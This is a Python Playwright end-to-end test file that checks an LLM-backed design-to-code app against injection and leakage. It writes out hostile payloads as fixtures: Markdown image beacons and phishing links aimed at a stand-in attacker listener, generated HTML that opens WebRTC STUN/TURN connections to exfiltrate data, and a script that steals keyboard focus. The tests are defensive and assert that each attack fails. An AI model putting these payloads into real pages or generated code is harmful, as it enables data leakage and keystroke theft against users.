"""Untrusted input stays contained in the running app: each test replays an attack found by a
probe of the app with a hostile endpoint, in Debian's Chromium, and keeps it from coming back.

A ``LeakListener`` on 127.0.0.1 stands in for the attacker's server: whatever reaches it (an
image beacon, a link's prefetch, STUN or TURN) fails the test, as does an ``<img>`` or ``<a>``
pointing at it anywhere in the app page. The scoring browser's side is in
``test_render_isolation.py``.
"""

from __future__ import annotations

import html
import math
import re
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.conftest import OPERATOR_OPENAI_KEY
from tests.e2e.test_app_convert import (
    PREVIEW_FRAME,
    TIMEOUT_MS,
    PreviewFrames,
    choose,
    convert_button,
    draw_design,
    fenced,
    open_setup,
    open_with_design,
    wait_for_result,
    wait_until_idle,
)
from tests.fakes.engines import TEST_KEY
from tests.fakes.leak import LeakListener
from tests.fakes.openai_server import ErrorReply, FakeOpenAIServer, Reply

if TYPE_CHECKING:  # conftest is loaded by pytest itself; the import is for the type only
    from conftest import LlmApp

pytestmark = pytest.mark.e2e

WEBRTC_SETTLE_MS = 3000  # ICE gathering reaches STUN/TURN servers within a second when it can


@pytest.fixture
def leak() -> Iterator[LeakListener]:
    with LeakListener() as listener:
        yield listener


@pytest.fixture
def page(browser_page: Page) -> Page:
    return browser_page


@pytest.fixture
def browser_page(browser: object) -> Iterator[Page]:
    from playwright.sync_api import Browser

    assert isinstance(browser, Browser)
    context = browser.new_context(viewport={"width": 1400, "height": 1000})
    try:
        yield context.new_page()
    finally:
        context.close()


def nothing_points_at(page: Page, leak: LeakListener) -> None:
    """No image or link of the app page goes to the leak listener, and nothing reached it."""
    port = str(leak.tcp_port)
    expect(page.locator(f"img[src*='{port}'], a[href*='{port}'], a[href*='evil-example']")).to_have_count(0)
    assert leak.seen() == []


def open_settings(page: Page, app: LlmApp) -> None:
    page.goto(app.url)
    page.get_by_test_id("stSidebarNav").get_by_role("link", name="Settings").click()
    expect(page.get_by_role("heading", name="Settings")).to_be_visible(timeout=TIMEOUT_MS)
    wait_until_idle(page)


def pick(page: Page, label: str, option: str) -> None:
    page.get_by_role("combobox", name=label).click()
    page.get_by_role("option", name=option, exact=True).click()
    expect(page.get_by_role("combobox", name=label)).to_have_value(option)
    wait_until_idle(page)


def use_endpoint(page: Page, base_url: str, model: str = "") -> None:
    """Save ``base_url`` (and ``model``) on the Settings page. A rerun still on its way after the
    preset changed re-draws the form with the preset's URL: fill again until the saved form shows
    what was typed."""
    fields = [("Base URL", base_url), ("Model", model)] if model else [("Base URL", base_url)]
    for _ in range(3):
        for name, value in fields:
            field = page.get_by_role("textbox", name=name)
            field.fill(value)
            field.press("Tab")  # a text input in a form commits its value when it loses the focus
        wait_until_idle(page)
        if any(page.get_by_role("textbox", name=name).input_value() != value for name, value in fields):
            continue  # a late rerun re-drew the form under the typing: type again
        page.get_by_role("button", name="Use these settings").click()
        # Saved, or refused because the preset cannot run yet (no model chosen): the typed URL
        # stays in the form either way, and it is what "List models" asks.
        said = page.get_by_text(re.compile(r"(^Saved|was not saved) for this session\."))
        expect(said.first).to_be_visible(timeout=TIMEOUT_MS)
        wait_until_idle(page)
        if page.get_by_role("textbox", name="Base URL").input_value() == base_url:
            return
    raise AssertionError(f"the Settings page did not keep the base URL {base_url}")


# --- 1. the operator's keys --------------------------------------------------------------------


def test_the_operators_keys_never_reach_an_endpoint_a_visitor_types(llm: LlmApp, page: Page) -> None:
    with FakeOpenAIServer(models=("gpt-4o", "attacker-model")) as attacker:
        open_settings(page, llm)
        # Kimi (the first preset) needs a key: with another base URL, the operator's Moonshot key
        # does not follow, and the engine says what it needs instead of asking.
        expect(page.get_by_role("combobox", name="Engine preset")).to_have_value("Kimi K2.5 (Moonshot)")
        use_endpoint(page, attacker.base_url)
        expect(page.get_by_text(re.compile("Not ready: enter a key for"))).to_be_visible(timeout=TIMEOUT_MS)
        expect(page.get_by_role("button", name="List the endpoint's models")).to_have_count(0)

        # Any other endpoint may need no key: it is asked without the operator's.
        pick(page, "Engine preset", "Custom endpoint")
        use_endpoint(page, attacker.base_url, "gpt-4o")
        expect(page.get_by_text("The key in OPENAI_API_KEY is only sent to")).to_be_visible(
            timeout=TIMEOUT_MS
        )
        page.get_by_role("button", name="List the endpoint's models").click()
        expect(page.get_by_role("combobox", name="Available models")).to_be_visible(timeout=TIMEOUT_MS)
        assert attacker.requests, "the listing went to the typed endpoint"
        sent = " ".join(request.headers.get("authorization", "") for request in attacker.requests)
        assert OPERATOR_OPENAI_KEY not in sent and TEST_KEY not in sent


# --- 2. untrusted text is never Markdown in the app page ---------------------------------------


def test_a_reflected_link_parameter_is_shown_as_text(llm: LlmApp, page: Page, leak: LeakListener) -> None:
    bait = f"![x]({leak.url}/x) [Your session expired]({leak.url}/y) www.evil-example.com"
    page.goto(f"{llm.url}/?c={bait.replace(' ', '%20')}")
    expect(page.get_by_role("heading", name="Conversion not found")).to_be_visible(timeout=TIMEOUT_MS)
    said = page.get_by_test_id("stAlert").filter(has_text="No conversion in this library has the id")
    expect(said).to_contain_text(f"![x]({leak.url}/x)")
    nothing_points_at(page, leak)


def test_model_and_endpoint_text_is_shown_as_text(
    llm: LlmApp, page: Page, leak: LeakListener, tmp_path: Path
) -> None:
    bait = f"![x]({leak.url}/BAIT) [Your session expired]({leak.url}/phish) www.evil-example.com"
    # The reasoning shows live; an import's name lands in a stored warning (above the result); the
    # same import makes the generated code throw, whose message the scoring browser reports
    # (Fidelity tab). Then a refusal, then an endpoint's own 400 message.
    code = (
        f'import Widget from "{bait.replace("BAIT", "import")}";\n\n'
        "export default function App() {\n  return <main><h1>Hello</h1><Widget /></main>;\n}\n"
    )
    reasoning = "Looking at the layout first. " * 8 + bait.replace("BAIT", "reasoning")
    llm.fake.script(
        Reply(
            content=fenced(code, "jsx"),
            reasoning="Looking at the layout first. " * 8 + bait.replace("BAIT", "reasoning"),
            chunk_chars=8,
            # The live view shows the reasoning only while the reply streams: hold the stream
            # after the reasoning until the test has looked, however loaded the machine.
            hold_after_chunks=math.ceil(len(reasoning) / 8),
        ),
        Reply(refusal=bait.replace("BAIT", "refusal")),
        ErrorReply(400, bait.replace("BAIT", "status-400")),
    )
    open_with_design(page, llm, draw_design(tmp_path / "design.png", "Hello"))
    choose(page, "React + Tailwind")

    convert_button(page).click()
    expect(page.get_by_text(re.compile("Thinking: "))).to_contain_text("![x](", timeout=TIMEOUT_MS)
    nothing_points_at(page, leak)
    llm.fake.release()
    expect(page.get_by_role("tab", name="Details")).to_be_visible(timeout=TIMEOUT_MS)
    page.get_by_role("tab", name="Details").click()
    expect(page.get_by_text(re.compile(r"Imports from '!\[x\]\("))).to_be_visible(timeout=TIMEOUT_MS)
    page.get_by_role("tab", name="Fidelity").click()
    # Scoring ends with a rerun that can show the first tab again: look once it is over.
    expect(page.get_by_text("Scoring this result against your design")).to_have_count(0, timeout=120_000)
    expect(page.get_by_text("Scoring…")).to_have_count(0, timeout=TIMEOUT_MS)
    page.get_by_role("tab", name="Fidelity").click()
    expect(page.get_by_text(re.compile(r"reported an error in the scoring browser.*!\[x\]\("))).to_be_visible(
        timeout=TIMEOUT_MS
    )
    nothing_points_at(page, leak)

    for said in ("declined to convert", "rejected the request"):  # the refusal, then the 400
        expect(convert_button(page)).to_be_enabled(timeout=TIMEOUT_MS)
        convert_button(page).click()
        expect(page.get_by_test_id("stAlertContentError").filter(has_text=said)).to_be_visible(
            timeout=TIMEOUT_MS
        )
        expect(page.get_by_test_id("stAlertContentError").filter(has_text=said)).to_contain_text("![x](")
        nothing_points_at(page, leak)


# --- 4. the guard runs first, and the model's page nests no frame of its own ---------------------


def test_generated_code_gets_no_webrtc_in_the_users_browser(
    llm: LlmApp, page: Page, leak: LeakListener, tmp_path: Path
) -> None:
    peer = (
        (
            "try { var pc = new P({iceServers: [{urls: 'stun:127.0.0.1:UDP'},"
            " {urls: 'turn:127.0.0.1:TCP?transport=tcp', username: 'u', credential: 'p'}]});"
            " pc.createDataChannel('x');"
            " pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });"
            " document.title = 'peer made'; } catch (e) { }"
        )
        .replace("UDP", str(leak.udp_port))
        .replace("TCP", str(leak.tcp_port))
    )
    nested = "<script>var P = window.RTCPeerConnection; " + peer + "</script>"
    # A script before <head> takes the constructor before a guard that went after <head> could
    # remove it; a <head> in a comment fooled that guard's placement; a nested frame has its own.
    code = (
        "<script>window.P = window.RTCPeerConnection;</script><!-- <head> -->\n"
        "<!DOCTYPE html>\n<html><head><title>Peer</title></head><body><h1>Peer to peer</h1>\n"
        f'<iframe srcdoc="{html.escape(nested)}"></iframe>\n'
        f"<script>{peer}</script>\n</body></html>\n"
    )
    llm.fake.script(Reply(content=fenced(code, "html"), chunk_chars=256))
    open_with_design(page, llm, draw_design(tmp_path / "peer.png", "Peer to peer"))
    choose(page, "HTML + CSS")
    convert_button(page).click()

    generated = PreviewFrames(page).generated
    expect(generated.get_by_role("heading", name="Peer to peer")).to_be_visible(timeout=TIMEOUT_MS)
    expect(generated.locator("[data-handoff-frame='iframe']")).to_have_count(1)  # the nested frame's box
    page.wait_for_timeout(WEBRTC_SETTLE_MS)
    assert generated.locator("html").evaluate("() => document.title") == "Peer"
    assert leak.seen() == []


# --- 5. the keyboard focus stays in the app ------------------------------------------------------

FOCUS_THIEF = (
    "<!DOCTYPE html>\n<html><body><h1>Sign in</h1><form id='f'><label id='l' for='x'>Email</label>"
    "<input id='x' required></form><dialog id='d'><input></dialog>\n"
    "<script>var x = document.getElementById('x'), d = document.getElementById('d');\n"
    "setInterval(function () {\n"
    "  try { x.focus(); window.focus(); x.select(); } catch (e) { }\n"
    "  try { document.getElementById('f').reportValidity(); } catch (e) { }\n"
    "  try { if (d.open) { d.close(); } d.showModal(); } catch (e) { }\n"
    "  try { document.getElementById('l').click(); } catch (e) { }\n"
    "}, 50);</script></body></html>\n"
)
TYPED = "make the header sticky and the buttons rounded"


def test_a_preview_cannot_take_the_keys_typed_into_the_app(llm: LlmApp, page: Page, tmp_path: Path) -> None:
    llm.fake.script(Reply(content=fenced(FOCUS_THIEF, "html"), chunk_chars=256))
    open_with_design(page, llm, draw_design(tmp_path / "signin.png", "Sign in"))
    choose(page, "HTML + CSS")
    convert_button(page).click()
    expect(PreviewFrames(page).generated.get_by_role("heading", name="Sign in")).to_be_visible(
        timeout=TIMEOUT_MS
    )
    wait_for_result(page)
    open_setup(page)
    box = page.get_by_label("Instructions (optional)")
    box.click()
    box.press_sequentially(TYPED, delay=30)
    expect(box).to_have_value(TYPED)
    # The document's own guard stopped every attempt: the app never had to take the focus back.
    assert page.locator(".hp-root").evaluate_all(
        "roots => roots.map((r) => r.dataset.focusTaken || '0')"
    ) == ["0"]
    expect(page.get_by_text("kept taking the keyboard focus")).to_be_hidden()


def test_the_app_takes_the_focus_back_and_stops_a_preview_that_keeps_taking_it(
    llm: LlmApp, page: Page, tmp_path: Path
) -> None:
    # A stand-in for a way to take the focus that the document's guard does not know: a frame
    # in the pane that steals it every 50 ms with no guard at all.
    llm.fake.script(Reply(content=fenced("<!DOCTYPE html><html><body><h1>Quiet</h1></body></html>", "html")))
    open_with_design(page, llm, draw_design(tmp_path / "quiet.png", "Quiet"))
    choose(page, "HTML + CSS")
    convert_button(page).click()
    expect(PreviewFrames(page).generated.get_by_role("heading", name="Quiet")).to_be_visible(
        timeout=TIMEOUT_MS
    )
    wait_for_result(page)
    thief = (
        "<input id=x><script>setInterval(function () { document.getElementById('x').focus(); }, 50);</script>"
    )
    page.locator(PREVIEW_FRAME).evaluate("(frame, doc) => { frame.srcdoc = doc; }", thief)
    open_setup(page)
    box = page.get_by_label("Instructions (optional)")
    box.click()
    box.press_sequentially("first words", delay=30)
    expect(page.get_by_text("kept taking the keyboard focus from the app")).to_be_visible(timeout=TIMEOUT_MS)
    expect(page.locator(PREVIEW_FRAME)).to_have_count(0)
    box.fill("")
    box.click()
    box.press_sequentially(TYPED, delay=30)
    expect(box).to_have_value(TYPED)
    page.get_by_role("button", name="Show it again").click()
    expect(page.locator(PREVIEW_FRAME)).to_have_count(1)
